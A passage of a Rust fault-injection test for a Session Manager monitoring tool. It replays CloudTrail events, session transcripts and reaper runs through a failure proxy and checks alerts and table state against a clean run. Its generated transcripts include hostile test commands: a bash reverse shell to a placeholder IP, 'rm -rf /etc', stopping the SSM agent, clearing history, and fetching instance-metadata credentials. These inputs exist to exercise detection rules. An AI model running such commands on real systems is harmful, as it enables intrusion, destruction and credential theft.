//! Fault injection end to end: the sample events and generated sessions through the recorder,
//! scanner and reaper on the AWS adapters, with a fault proxy (`tests/faults/proxy.py`) between
//! them and moto server, delivered as Lambda delivers asynchronous events (a failed event is
//! retried, `LAMBDA_ATTEMPTS` in all, the reaper's `REAPER_ATTEMPTS`, then dead-lettered; dead
//! letters are redriven once at the end, as an operator does when the dead-letter alarm fires).
//! The reaper asks Session Manager through the proxy too: moto has no `DescribeSessions`, so the
//! proxy sends Session Manager requests to a loopback stand-in (`SsmStandIn` in
//! `support/http_stub.rs`) listing the sample sessions (`events/3-reaper/30-describe-sessions.json`)
//! and the generated ones, and fails them like the others. A reaper run that skipped sessions
//! (their update failed; it logs them as problems and succeeds) is followed by the next scheduled
//! run, at the same time for comparability, as often as it takes (`REAPER_RERUNS` with faults on,
//! then once with them off). Each run's final table items and the alerts an SQS queue subscribed
//! to the topic received are compared with one clean delivery straight to moto and the stand-in.
//!
//! Run by `scripts/test` (`--ignored`, it needs moto server): a CI size by default,
//! `WARDEN_FAULTS_FULL=1` for more generated sessions. `WARDEN_FAULTS_SEED` changes the seed,
//! `WARDEN_FAULTS_MODES=lost_reply,mixed` runs only those modes.
//! Fails on any lost alert, any duplicate a subscriber cannot drop by its `alert_id`, any table
//! item that differs from the clean delivery, and any dead letter the redrive cannot clear.
//! Repeats of one `alert_id` (an SNS publish whose reply was lost, sent again) are counted and
//! printed, not failed: a standard topic cannot be exactly-once.

#[path = "support/fault_proxy.rs"]
mod fault_proxy;
#[path = "support/http_stub.rs"]
mod http_stub;
#[path = "support/items.rs"]
mod items;
#[path = "support/moto.rs"]
mod moto;
#[path = "support/session_pair.rs"]
mod session_pair;

use aws_config::SdkConfig;
use aws_config::timeout::TimeoutConfig;
use aws_sdk_dynamodb::types::AttributeValue;
use fault_proxy::Proxy;
use serde_json::{Value, json};
use std::collections::{BTreeMap, HashMap};
use std::path::Path;
use std::time::{Duration, Instant};
use warden_core::aws::{DynamoStore, SnsNotifier, SsmDirectory};
use warden_core::config::WardenConfig;
use warden_core::handlers::reaper::Reaper;
use warden_core::handlers::recorder::Recorder;
use warden_core::handlers::scanner::Scanner;
use warden_core::local::DryRunTerminator;
use warden_core::transcript::payload::{
    LogEvent, LogsBatch, StreamIdentity, StreamRecord, StreamTarget, decode_subscription,
    encode_subscription,
};

/// Lambda's attempts at an asynchronous event: `MaximumRetryAttempts: 2` in template.yaml.
const LAMBDA_ATTEMPTS: usize = 3;
/// The reaper's: `MaximumRetryAttempts: 1`.
const REAPER_ATTEMPTS: usize = 2;
/// Next scheduled runs after a reaper run that skipped sessions, with faults on, before one with
/// them off.
const REAPER_RERUNS: usize = 3;
/// The alert claim lease in these runs. Lambda waits a minute or more before retrying a failed
/// event, longer than the functions' 30-second lease; the driver stands in for that wait by
/// sleeping past this shorter lease before each retry and before the redrive.
const TEST_LEASE: Duration = Duration::from_millis(150);
/// SDK timings scaled down so a run takes seconds: the attempt timeout is below the proxy's
/// slowest replies (0.5-2 x `SLOW_SECONDS`), so some slow replies time out after the write.
/// Both are multiplied by `WARDEN_FAULTS_TIME_SCALE` (default 1) for a machine where moto itself
/// answers that slowly: [`attempt_timeout`], [`slow_seconds`]. A reply moto is slow to give
/// while the faults are on is one more fault (a timeout the SDK retries), which the run must
/// survive like the injected ones.
const ATTEMPT_TIMEOUT: Duration = Duration::from_millis(250);
/// The clean deliveries go straight to moto and must see no fault at all: a moto busy with
/// hundreds of tables can take longer than `ATTEMPT_TIMEOUT` to answer, which would time out
/// and repeat a publish it did accept, so they keep the production attempt timeout. So do the
/// redrive and the reaper's run after the faults: an operator redrives with the deployed
/// configuration, and a redrive that fails because a loaded moto took 250 ms is not a finding.
const CLEAN_ATTEMPT_TIMEOUT: Duration = Duration::from_secs(5);
const SLOW_SECONDS: f64 = 0.2;

/// `WARDEN_FAULTS_TIME_SCALE`: how much to stretch the fault run's timings (at least 1).
fn time_scale() -> f64 {
    match std::env::var("WARDEN_FAULTS_TIME_SCALE") {
        Ok(text) => match text.parse::<f64>() {
            Ok(scale) if scale >= 1.0 && scale.is_finite() => scale,
            _ => panic!("WARDEN_FAULTS_TIME_SCALE={text:?} is not a number of at least 1"),
        },
        Err(_) => 1.0,
    }
}

/// The attempt timeout while the faults are on.
fn attempt_timeout() -> Duration {
    ATTEMPT_TIMEOUT.mul_f64(time_scale())
}

/// How long the proxy holds back a `slow` reply (0.5-2 times this).
fn slow_seconds() -> f64 {
    SLOW_SECONDS * time_scale()
}
const RATES: [f64; 3] = [0.05, 0.20, 0.40];
const MODES: [&str; 6] = [
    "error500",
    "throttle",
    "reset",
    "slow",
    "lost_reply",
    "mixed",
];

// ---------------------------------------------------------------------------------------------
// The events

#[derive(Clone)]
enum Input {
    CloudTrail(Value),
    Transcript(Value),
    /// A schedule event for the reaper.
    Reaper(Value),
}

#[derive(Clone)]
struct Delivery {
    label: String,
    input: Input,
}

impl Delivery {
    /// The session a CloudTrail event or transcript batch is about.
    fn session_id(&self) -> Option<String> {
        match &self.input {
            Input::CloudTrail(event) => {
                let detail = &event["detail"];
                detail["responseElements"]["sessionId"]
                    .as_str()
                    .or(detail["requestParameters"]["sessionId"].as_str())
                    .map(str::to_string)
            }
            Input::Transcript(event) => decode_subscription(event, 1 << 24)
                .ok()
                .map(|batch| batch.log_stream),
            Input::Reaper(_) => None,
        }
    }

    /// Lambda's attempts at this event before it is dead-lettered.
    fn attempts(&self) -> usize {
        match self.input {
            Input::Reaper(_) => REAPER_ATTEMPTS,
            _ => LAMBDA_ATTEMPTS,
        }
    }
}

fn read_json(path: &Path) -> Value {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn json_files(folder: &str) -> Vec<std::path::PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(folder);
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    files.sort();
    files
}

/// `events/` in replay order: the CloudTrail events, the transcripts, then the reaper's schedule
/// event (its view of Session Manager, `30-describe-sessions.json`, is what the stand-in lists:
/// [`sample_directory`]).
fn sample_events() -> Vec<Delivery> {
    let mut deliveries = Vec::new();
    for folder in [
        "events/1-cloudtrail",
        "events/2-transcripts",
        "events/3-reaper",
    ] {
        for path in json_files(folder) {
            let event = read_json(&path);
            let input = match folder {
                "events/1-cloudtrail" => Input::CloudTrail(event),
                "events/2-transcripts" => Input::Transcript(event),
                _ if event.get("Sessions").is_some() => continue,
                _ => Input::Reaper(event),
            };
            deliveries.push(Delivery {
                label: path.file_name().unwrap().to_string_lossy().into_owned(),
                input,
            });
        }
    }
    deliveries
}

/// The sample sessions as `DescribeSessions` lists them.
fn sample_directory() -> Vec<Value> {
    let path =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("events/3-reaper/30-describe-sessions.json");
    read_json(&path)["Sessions"].as_array().unwrap().clone()
}

/// A reaper run at `time`.
fn schedule_event(time: &str) -> Delivery {
    Delivery {
        label: format!("reaper run {time}"),
        input: Input::Reaper(json!({
            "version": "0",
            "id": format!("53dc4d37-cffa-4f76-80c9-{:012x}", time.len()),
            "detail-type": "Scheduled Event",
            "source": "aws.events",
            "account": "111122223333",
            "time": time,
            "region": "eu-west-1",
            "resources": ["arn:aws:events:eu-west-1:111122223333:rule/session-warden-SessionReaperSchedule"],
            "detail": {}
        })),
    }
}

/// Commands a generated session types, one picked per session after benign ones: most fire a
/// default rule (alert or terminate), one is benign.
const SESSION_COMMANDS: &[&str] = &[
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "sudo rm -rf /etc",
    "sudo systemctl stop amazon-ssm-agent",
    "history -c",
    "tail -n 50 /var/log/messages",
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
];

/// `count` sessions, each a StartSession (every other one without MFA), a streamed transcript
/// and a TerminateSession, made from the samples 03 and 04 with their own ids and times. Every
/// third one ends without an API call (no TerminateSession; Session Manager lists it ended), and
/// a third as many more are open in Session Manager with no CloudTrail event nor transcript at
/// all; a reaper run after them all closes the first and records and alerts on the second.
/// Returns the deliveries and how Session Manager lists the sessions.
fn generated_sessions(count: usize) -> (Vec<Delivery>, Vec<Value>) {
    let mut directory = Vec::new();
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("events/1-cloudtrail");
    let start_template = read_json(&dir.join("03-start-role-without-mfa.json"));
    let end_template = read_json(&dir.join("04-terminate-role-without-mfa.json"));
    let mut deliveries = Vec::new();
    for i in 0..count {
        let user = format!("gen{i:03}");
        let session_id = format!("{user}-{:017x}", 0xabc0_0000_u64 + i as u64);
        let arn = format!("arn:aws:sts::111122223333:assumed-role/Admin/{user}");
        // Tuesdays 2026-11-24, business hours, a minute apart.
        let started: jiff::Timestamp = "2026-11-24T09:00:00Z".parse().unwrap();
        let started = started + jiff::SignedDuration::from_mins(i as i64);
        let ended = started + jiff::SignedDuration::from_mins(30);

        let (start, end) = session_pair::start_and_end(
            &session_pair::GeneratedSession {
                index: i,
                user: &user,
                session_id: &session_id,
                started,
                ended,
                mfa: i % 2 != 0,
                event_id_prefix: "00000000",
                delivery_id_prefix: "10000000",
            },
            &start_template,
            &end_template,
        );

        let lines = [
            "sh-5.2$ id".to_string(),
            "uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)".to_string(),
            "sh-5.2$ ls -la /opt/app".to_string(),
            "total 0".to_string(),
            format!("sh-5.2$ {}", SESSION_COMMANDS[i % SESSION_COMMANDS.len()]),
            "sh-5.2$ exit".to_string(),
        ];
        let records: Vec<String> = lines
            .chunks(2)
            .enumerate()
            .map(|(n, chunk)| {
                let at = started + jiff::SignedDuration::from_secs(60 + n as i64);
                serde_json::to_string(&StreamRecord {
                    event_version: Some("1.0".into()),
                    event_time: Some(at.to_string()),
                    aws_region: Some("eu-west-1".into()),
                    target: Some(StreamTarget {
                        id: Some("i-0c4d5e6f7a8b90123".into()),
                    }),
                    user_identity: Some(StreamIdentity {
                        arn: Some(arn.clone()),
                    }),
                    run_as_user: Some("ssm-user".into()),
                    session_id: Some(session_id.clone()),
                    session_data: chunk.to_vec(),
                })
                .unwrap()
            })
            .collect();
        let batch = LogsBatch {
            message_type: "DATA_MESSAGE".into(),
            owner: "111122223333".into(),
            log_group: "/aws/ssm/session-logs".into(),
            log_stream: session_id.clone(),
            subscription_filters: vec!["session-warden".into()],
            log_events: records
                .into_iter()
                .enumerate()
                .map(|(n, message)| {
                    let at =
                        (started + jiff::SignedDuration::from_secs(60 + n as i64)).as_millisecond();
                    LogEvent {
                        id: format!("{at:0>20}{n:0>36}"),
                        timestamp: at,
                        message,
                    }
                })
                .collect(),
        };
        deliveries.push(Delivery {
            label: format!("{session_id} start"),
            input: Input::CloudTrail(start),
        });
        deliveries.push(Delivery {
            label: format!("{session_id} transcript"),
            input: Input::Transcript(encode_subscription(&batch)),
        });
        if i % 3 == 2 {
            // Ended by `exit`: no API call; Session Manager lists it in its history.
            directory.push(json!({
                "SessionId": session_id,
                "Target": "i-0c4d5e6f7a8b90123",
                "Status": "Terminated",
                "StartDate": started.as_second() as f64,
                "EndDate": (ended.as_second() - 120) as f64,
                "DocumentName": "SSM-SessionManagerRunShell",
                "Owner": arn,
            }));
        } else {
            deliveries.push(Delivery {
                label: format!("{session_id} terminate"),
                input: Input::CloudTrail(end),
            });
        }
    }
    // Open sessions CloudTrail never reported: an hour old when the reaper runs.
    for i in 0..count.div_ceil(3) {
        let user = format!("ghost{i:03}");
        let started: jiff::Timestamp = "2026-11-28T23:00:00Z".parse().unwrap();
        directory.push(json!({
            "SessionId": format!("{user}-{:017x}", 0xdef0_0000_u64 + i as u64),
            "Target": "i-0c4d5e6f7a8b90123",
            "Status": "Connected",
            "StartDate": (started.as_second() + 60 * i as i64) as f64,
            "DocumentName": "SSM-SessionManagerRunShell",
            "Owner": format!("arn:aws:sts::111122223333:assumed-role/Admin/{user}"),
        }));
    }
    deliveries.push(schedule_event("2026-11-29T00:05:00Z"));
    (deliveries, directory)
}

// ---------------------------------------------------------------------------------------------
// One run

#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
enum Order {
    Forward,
    Twice,
    Reversed,
}

impl Order {
    fn name(self) -> &'static str {
        match self {
            Order::Forward => "in order",
            Order::Twice => "twice",
            Order::Reversed => "reversed",
        }
    }

    fn arrange(self, deliveries: &[Delivery]) -> Vec<Delivery> {
        match self {
            Order::Forward => deliveries.to_vec(),
            Order::Twice => deliveries
                .iter()
                .flat_map(|d| [d.clone(), d.clone()])
                .collect(),
            Order::Reversed => deliveries.iter().rev().cloned().collect(),
        }
    }
}

type AwsRecorder = Recorder<DynamoStore, SnsNotifier, DryRunTerminator>;
type AwsScanner = Scanner<DynamoStore, SnsNotifier, DryRunTerminator>;
type AwsReaper = Reaper<DynamoStore, SnsNotifier, DryRunTerminator, SsmDirectory>;

struct Handlers {
    recorder: AwsRecorder,
    scanner: AwsScanner,
    reaper: AwsReaper,
}

/// A delivery that succeeded.
enum Delivered {
    Done,
    /// A reaper run that skipped these many sessions (their update failed); the next scheduled
    /// run does them.
    Skipped(usize),
}

impl Handlers {
    /// Fresh handlers on the table and topic, through `endpoint` (Session Manager through
    /// `ssm_endpoint`), with the production SDK configuration scaled to `attempt_timeout`.
    async fn new(
        endpoint: &str,
        ssm_endpoint: &str,
        attempt_timeout: Duration,
        table: &str,
        topic: &str,
        rules: warden_core::rules::RuleSet,
    ) -> Handlers {
        let sdk = scaled_sdk_config(endpoint, attempt_timeout).await;
        let ssm_sdk = scaled_sdk_config(ssm_endpoint, attempt_timeout).await;
        let store = DynamoStore::new(aws_sdk_dynamodb::Client::new(&sdk), table, 30);
        let notifier = SnsNotifier::new(aws_sdk_sns::Client::new(&sdk), topic);
        let mut config = WardenConfig::from_lookup(|_| None).unwrap();
        config.alert_claim_lease = jiff::SignedDuration::try_from(TEST_LEASE).unwrap();
        Handlers {
            recorder: Recorder::new(
                store.clone(),
                notifier.clone(),
                DryRunTerminator::new(),
                config.clone(),
            ),
            scanner: Scanner::new(
                store.clone(),
                notifier.clone(),
                DryRunTerminator::new(),
                config.clone(),
                rules,
            ),
            reaper: Reaper::new(
                store,
                notifier,
                DryRunTerminator::new(),
                SsmDirectory::new(aws_sdk_ssm::Client::new(&ssm_sdk)),
                config,
            ),
        }
    }

    /// A handler's verdict on one delivery, as Lambda sees it: an event that is not a session
    /// call is acknowledged; any other error fails the invocation. A reaper run succeeds unless
    /// it could not read Session Manager or the table at all.
    async fn deliver(&self, delivery: &Delivery) -> Result<Delivered, String> {
        match &delivery.input {
            Input::CloudTrail(event) => match self.recorder.handle(event).await {
                Ok(_) => Ok(Delivered::Done),
                Err(e) if e.is_unrelated_event() => Ok(Delivered::Done),
                Err(e) => Err(e.to_string()),
            },
            Input::Transcript(event) => self
                .scanner
                .handle(event)
                .await
                .map(|_| Delivered::Done)
                .map_err(|e| e.to_string()),
            Input::Reaper(event) => match self.reaper.handle(event).await {
                Ok(reaped) if reaped.problems.is_empty() => Ok(Delivered::Done),
                Ok(reaped) => Ok(Delivered::Skipped(reaped.problems.len())),
                Err(e) => Err(e.to_string()),
            },
        }
    }
}

/// The production SDK configuration (retry mode, attempts, classification) with its timings
/// scaled down: backoff in milliseconds instead of seconds, `attempt_timeout` per attempt.
async fn scaled_sdk_config(endpoint: &str, attempt_timeout: Duration) -> SdkConfig {
    let production =
        warden_core::aws::sdk_config(Some(endpoint), warden_core::aws::TrustRoots::Amazon).await;
    let retry = production
        .retry_config()
        .expect("sdk_config sets a retry configuration")
        .clone()
        .with_initial_backoff(Duration::from_millis(10))
        .with_max_backoff(Duration::from_millis(100));
    production
        .to_builder()
        .retry_config(retry)
        .timeout_config(
            TimeoutConfig::builder()
                .connect_timeout(Duration::from_millis(500))
                .operation_attempt_timeout(attempt_timeout)
                .operation_timeout(attempt_timeout * 4 + Duration::from_secs(1))
                .build(),
        )
        .build()
}

/// What a run left behind.
struct Outcome {
    /// Table items by `pk sk`, without what differs between deliveries by nature (versions,
    /// processing times, claim holders).
    items: BTreeMap<String, Value>,
    /// Messages the subscriber received, by `alert_id`.
    alerts: BTreeMap<String, usize>,
    /// Messages without an `alert_id` attribute.
    unlabelled: usize,
    /// Alert items claimed but never marked sent.
    unmarked: usize,
    /// Sessions whose transcript failure no later success cured: a false alarm from the reaper
    /// once every batch went through.
    uncured: Vec<String>,
    dead_lettered: usize,
    /// What was dead-lettered, and which reaper runs left sessions to the run after the faults.
    late: Vec<String>,
    /// The sessions of the events that were dead-lettered.
    late_sessions: std::collections::BTreeSet<String>,
    /// The deliveries in the order they succeeded (a redriven dead letter last).
    took_effect: Vec<Delivery>,
    /// Dead letters that failed again when redriven.
    redrive_failed: Vec<String>,
    lambda_retries: usize,
    /// Sessions reaper runs skipped (a failed update), and the next scheduled runs that redid
    /// them (the last with faults off).
    reaper_skipped: usize,
    reaper_reruns: usize,
    /// Whether a reaper run still had sessions to redo when the faults stopped.
    reaper_leftover: bool,
    faults: Value,
    seconds: f64,
}

/// Delivers `deliveries` in order through fresh handlers on `endpoint` (the proxy, or moto; the
/// reaper's Session Manager calls go to `ssm_endpoint`, the proxy or the stand-in), as Lambda
/// would: each failed event retried after the lease, dead-lettered after its attempts; a reaper
/// run that skipped sessions followed by the next scheduled runs; then, with faults off, every
/// dead letter redriven once and a last reaper run for what the others still left.
async fn run(
    direct: &SdkConfig,
    endpoint: &str,
    ssm_endpoint: &str,
    proxy: Option<(&Proxy, &str, f64, u64)>,
    deliveries: &[Delivery],
) -> Outcome {
    let began = Instant::now();
    let dynamo = aws_sdk_dynamodb::Client::new(direct);
    let table = moto::unique("faults");
    moto::create_table(&dynamo, &table).await;
    let (topic, queue) = moto::create_topic_with_queue(direct, &moto::unique("faults")).await;

    let rules = warden_core::rules::default_rules();
    let timeout = match proxy {
        Some(_) => attempt_timeout(),
        None => CLEAN_ATTEMPT_TIMEOUT,
    };
    let handlers = Handlers::new(
        endpoint,
        ssm_endpoint,
        timeout,
        &table,
        &topic,
        rules.clone(),
    )
    .await;
    // After the faults: the redrive and the reaper's last run, with the deployed timeouts.
    let afterwards = Handlers::new(
        endpoint,
        ssm_endpoint,
        CLEAN_ATTEMPT_TIMEOUT,
        &table,
        &topic,
        rules,
    )
    .await;

    if let Some((proxy, mode, rate, seed)) = proxy {
        proxy.set(mode, rate, seed);
    }
    let lapse = || tokio::time::sleep(TEST_LEASE + Duration::from_millis(20));
    let mut dead_letters = Vec::new();
    // The deliveries in the order they finally succeeded: dead letters move to the end.
    let mut took_effect = Vec::new();
    let mut lambda_retries = 0;
    let (mut reaper_skipped, mut reaper_reruns) = (0, 0);
    let mut leftover = Vec::new();
    for delivery in deliveries {
        let mut failed = None;
        let mut skipped = 0;
        for attempt in 0..delivery.attempts() {
            if attempt > 0 {
                lambda_retries += 1;
                lapse().await;
            }
            match handlers.deliver(delivery).await {
                Ok(delivered) => {
                    failed = None;
                    if let Delivered::Skipped(n) = delivered {
                        skipped = n;
                    }
                    break;
                }
                Err(error) => failed = Some(error),
            }
        }
        if failed.is_some() {
            dead_letters.push(delivery);
            continue;
        }
        took_effect.push(delivery.clone());
        // The next scheduled runs redo what a reaper run skipped (they come minutes later: every
        // claim the skipped work left has lapsed).
        let mut reruns = 0;
        while skipped > 0 {
            reaper_skipped += skipped;
            if reruns == REAPER_RERUNS {
                leftover.push(delivery);
                break;
            }
            reruns += 1;
            reaper_reruns += 1;
            lapse().await;
            if let Ok(delivered) = handlers.deliver(delivery).await {
                skipped = match delivered {
                    Delivered::Done => 0,
                    Delivered::Skipped(n) => n,
                };
            }
        }
    }
    let faults = match proxy {
        Some((proxy, ..)) => {
            let counters = proxy.counters();
            proxy.set("none", 0.0, 0);
            counters
        }
        None => Value::Null,
    };
    // The redrive comes long after the failures: every claim they left has lapsed.
    lapse().await;
    let mut redrive_failed = Vec::new();
    for delivery in &dead_letters {
        match afterwards.deliver(delivery).await {
            Ok(Delivered::Done) => took_effect.push((*delivery).clone()),
            Ok(Delivered::Skipped(n)) => {
                redrive_failed.push(format!("{}: skipped {n} sessions", delivery.label))
            }
            Err(error) => redrive_failed.push(format!("{}: {error}", delivery.label)),
        }
    }
    for delivery in &leftover {
        reaper_reruns += 1;
        match afterwards.deliver(delivery).await {
            Ok(Delivered::Done) => took_effect.push((*delivery).clone()),
            Ok(Delivered::Skipped(n)) => redrive_failed.push(format!(
                "{}: the run after the faults still skipped {n} sessions",
                delivery.label
            )),
            Err(error) => redrive_failed.push(format!("{}: {error}", delivery.label)),
        }
    }

    let (items, uncured) = items::table_items(&dynamo, &table).await;
    let unmarked = items
        .iter()
        .filter(|(key, item)| key.contains(" ALERT#") && item.get("sent").is_none())
        .count();
    let mut alerts = BTreeMap::new();
    let mut unlabelled = 0;
    for message in moto::drain_queue(direct, &queue).await {
        match message["MessageAttributes"]["alert_id"]["Value"].as_str() {
            Some(id) => *alerts.entry(id.to_string()).or_insert(0) += 1,
            None => unlabelled += 1,
        }
    }
    Outcome {
        items,
        alerts,
        unlabelled,
        unmarked,
        uncured,
        dead_lettered: dead_letters.len(),
        late: dead_letters
            .iter()
            .map(|d| format!("dead-lettered: {}", d.label))
            .chain(leftover.iter().map(|d| format!("left over: {}", d.label)))
            .collect(),
        late_sessions: dead_letters.iter().filter_map(|d| d.session_id()).collect(),
        took_effect,
        redrive_failed,
        lambda_retries,
        reaper_skipped,
        reaper_reruns,
        reaper_leftover: !leftover.is_empty(),
        faults,
        seconds: began.elapsed().as_secs_f64(),
    }
}

/// The top-level attributes on which two items differ, `name: a ≠ b` each.
fn field_differences(a: &Value, b: &Value) -> String {
    let empty = serde_json::Map::new();
    let (a, b) = (
        a.as_object().unwrap_or(&empty),
        b.as_object().unwrap_or(&empty),
    );
    let mut names: Vec<&String> = a.keys().chain(b.keys()).collect();
    names.sort();
    names.dedup();
    names
        .into_iter()
        .filter(|name| a.get(*name) != b.get(*name))
        .map(|name| {
            let show = |v: Option<&Value>| v.map_or("(none)".to_string(), Value::to_string);
            format!("{name}: {} ≠ {}", show(a.get(name)), show(b.get(name)))
        })
        .collect::<Vec<_>>()
        .join("; ")
}

/// Whether an alert (`<session id>/<kind>`) is a reaper run's observation of the table at
/// its time, rather than a consequence of one event.
fn is_reaper_observation(alert_id: &str) -> bool {
    [
        "no_transcript",
        "transcript_stopped",
        "unrecorded_session",
        "transcript_unprocessable",
    ]
    .iter()
    .any(|kind| alert_id.rsplit_once('/').is_some_and(|(_, k)| k == *kind))
}

/// A faulty run against its clean baseline.
struct Row {
    mode: String,
    rate: f64,
    order: Order,
    faulted: u64,
    requests: u64,
    lambda_retries: usize,
    dead_lettered: usize,
    late: Vec<String>,
    reaper_skipped: usize,
    reaper_reruns: usize,
    lost: Vec<String>,
    doubled: usize,
    repeats: usize,
    unmarked: usize,
    missing: Vec<String>,
    extra: Vec<String>,
    uncured: Vec<String>,
    redrive_failed: Vec<String>,
    seconds: f64,
}

impl Row {
    fn failed(&self) -> bool {
        !self.lost.is_empty()
            || self.doubled > 0
            || !self.missing.is_empty()
            || !self.extra.is_empty()
            || !self.uncured.is_empty()
            || !self.redrive_failed.is_empty()
    }
}

/// Compares a faulty run with the clean deliveries it may legitimately equal: the one in its
/// delivery order, and, when events were dead-lettered, the one in the order its events took
/// effect (a redriven transcript can find its session already ended, where in delivery order it
/// did not; a dead letter's failed attempts may have recorded part of its work before the
/// session ended). Each session item must equal one of them. The alerts must be those of the
/// clean delivery in the order the events took effect (the last baseline): a reaper run moved
/// to the end sees a later table and alerts on what it sees then.
fn compare(mode: &str, rate: f64, order: Order, baselines: &[&Outcome], faulty: &Outcome) -> Row {
    let clean = baselines[0];
    let in_effect = baselines[baselines.len() - 1];
    // What a reaper run alerts on is what it sees in the table at its time. An event that
    // failed all its attempts may still have written part of its work (a session write whose
    // reply was lost, before the alert step failed): a reaper run before the redrive then sees
    // a transcript or a CloudTrail start that the clean delivery in redrive order has not yet
    // applied, and rightly raises no `no_transcript` or `unrecorded_session`. Those alerts are
    // lost only when every clean delivery sent them; every other alert, whenever the
    // in-effect delivery sent it.
    let lost = in_effect
        .alerts
        .keys()
        .filter(|id| !faulty.alerts.contains_key(*id))
        .filter(|id| {
            !is_reaper_observation(id) || baselines.iter().all(|b| b.alerts.contains_key(*id))
        })
        .cloned()
        .collect();
    // A duplicate a subscriber cannot drop: no id, or an id no clean delivery sent.
    let doubled = faulty.unlabelled
        + faulty
            .alerts
            .iter()
            .filter(|(id, _)| !baselines.iter().any(|b| b.alerts.contains_key(*id)))
            .map(|(_, n)| n)
            .sum::<usize>();
    let repeats = faulty.alerts.values().map(|n| n.saturating_sub(1)).sum();
    // An alert marked sent in the clean run and only claimed here is counted as unmarked, not
    // as a missing item: it went out, but a later delivery could send it again.
    let same = |key: &str, a: &Value, b: &Value| {
        if a == b {
            return true;
        }
        let (mut a, mut b) = (a.clone(), b.clone());
        // `described_at` is when a reaper run looked (an observation time, like a transcript's
        // `processed_at`). Every run looks at an open session, so its latest look agrees once
        // every run took effect; only the run that noticed the end looks at an ended one, and
        // under faults that can be the run after the one that noticed it in the clean delivery
        // (the first skipped the session: its update failed). The end itself, its status and
        // who reported it must still agree.
        if a.get("state") != Some(&json!("active")) || b.get("state") != Some(&json!("active")) {
            for item in [&mut a, &mut b] {
                if let Some(object) = item.as_object_mut() {
                    object.remove("described_at");
                }
            }
        }
        // A terminate rule's decision on a session one of whose events was dead-lettered: the
        // events its failed attempts wrote before failing (the transcript noted on the session)
        // can let a reaper run close the session before the redrive, which then rightly finds
        // it `already_ended` where the clean deliveries, which never saw those partial writes,
        // decide `would_terminate`. The decision, for the same reasons, must still be there.
        let session = key
            .strip_prefix("SESSION#")
            .and_then(|rest| rest.strip_suffix(" META"));
        if session.is_some_and(|id| faulty.late_sessions.contains(id)) {
            for item in [&mut a, &mut b] {
                if let Some(terminations) =
                    item.get_mut("terminations").and_then(Value::as_object_mut)
                {
                    for decision in terminations.values_mut() {
                        *decision = json!("decided");
                    }
                }
            }
        }
        if key.contains(" ALERT#") {
            b.as_object_mut()
                .unwrap()
                .insert("sent".into(), json!(true));
        }
        a == b
    };
    let missing = clean
        .items
        .iter()
        .filter(|(key, _)| {
            faulty.items.get(*key).is_none_or(|other| {
                !baselines
                    .iter()
                    .any(|b| b.items.get(*key).is_some_and(|item| same(key, item, other)))
            })
        })
        .map(|(key, _)| {
            let Some(other) = faulty.items.get(key) else {
                return format!("{key}: not in the table");
            };
            let mut text = key.clone();
            for (name, baseline) in ["clean", "clean in redrive order"].iter().zip(baselines) {
                let item = baseline.items.get(key).unwrap_or(&Value::Null);
                text.push_str(&format!(
                    "\n      {name}: {}",
                    field_differences(item, other)
                ));
            }
            text
        })
        .collect();
    let extra = faulty
        .items
        .keys()
        .filter(|key| !baselines.iter().any(|b| b.items.contains_key(*key)))
        .cloned()
        .collect();
    Row {
        mode: mode.to_string(),
        rate,
        order,
        faulted: faulty.faults["faulted"].as_u64().unwrap_or(0),
        requests: faulty.faults["requests"].as_u64().unwrap_or(0),
        lambda_retries: faulty.lambda_retries,
        dead_lettered: faulty.dead_lettered,
        late: faulty.late.clone(),
        reaper_skipped: faulty.reaper_skipped,
        reaper_reruns: faulty.reaper_reruns,
        lost,
        doubled,
        repeats,
        unmarked: faulty.unmarked,
        missing,
        extra,
        uncured: faulty.uncured.clone(),
        redrive_failed: faulty.redrive_failed.clone(),
        seconds: faulty.seconds,
    }
}

fn print_table(rows: &[Row]) {
    println!(
        "\n{:<11}{:>5}  {:<9}{:>8}{:>7}{:>9}{:>6}{:>9}{:>8}{:>6}{:>9}{:>9}{:>10}{:>9}{:>7}{:>8}{:>7}",
        "mode",
        "rate",
        "order",
        "faults",
        "calls",
        "retries",
        "DLQ",
        "skipped",
        "reruns",
        "lost",
        "doubled",
        "repeats",
        "unmarked",
        "missing",
        "extra",
        "uncured",
        "secs"
    );
    for r in rows {
        println!(
            "{:<11}{:>4}%  {:<9}{:>8}{:>7}{:>9}{:>6}{:>9}{:>8}{:>6}{:>9}{:>9}{:>10}{:>9}{:>7}{:>8}{:>7.1}",
            r.mode,
            (r.rate * 100.0).round(),
            r.order.name(),
            r.faulted,
            r.requests,
            r.lambda_retries,
            r.dead_lettered,
            r.reaper_skipped,
            r.reaper_reruns,
            r.lost.len(),
            r.doubled,
            r.repeats,
            r.unmarked,
            r.missing.len(),
            r.extra.len(),
            r.uncured.len(),
            r.seconds
        );
    }
    println!(
        "\nfaults: requests the proxy failed, of `calls` DynamoDB, SNS and Session Manager requests \
         it saw; retries: Lambda retries of failed events; DLQ: events dead-lettered after \
         {LAMBDA_ATTEMPTS} attempts ({REAPER_ATTEMPTS} for the reaper; all redriven once at the end); \
         skipped: sessions reaper runs skipped because their update failed; reruns: the next \
         scheduled reaper runs that redid them; lost: alerts the clean delivery sent and the \
         subscriber never got; doubled: messages a subscriber cannot drop by alert_id; repeats: \
         extra copies of one alert_id; unmarked: alerts published but left claimed, not marked \
         sent; missing / extra: table items that differ from the clean delivery; uncured: sessions \
         whose transcript failure no later success cleared (the reaper would report them \
         unprocessable)."
    );
}

#[tokio::test]
#[ignore = "needs moto server and python3; scripts/test runs it"]
async fn the_proxy_fails_requests_in_each_protocols_own_error_shape() {
    use aws_sdk_dynamodb::error::ProvideErrorMetadata;
    use warden_core::ports::{
        DirectoryError, Listing, Notifier, NotifyError, Place, SessionDirectory, SessionStore,
        StoreError,
    };
    let Some(moto_url) = moto::endpoint() else {
        return;
    };
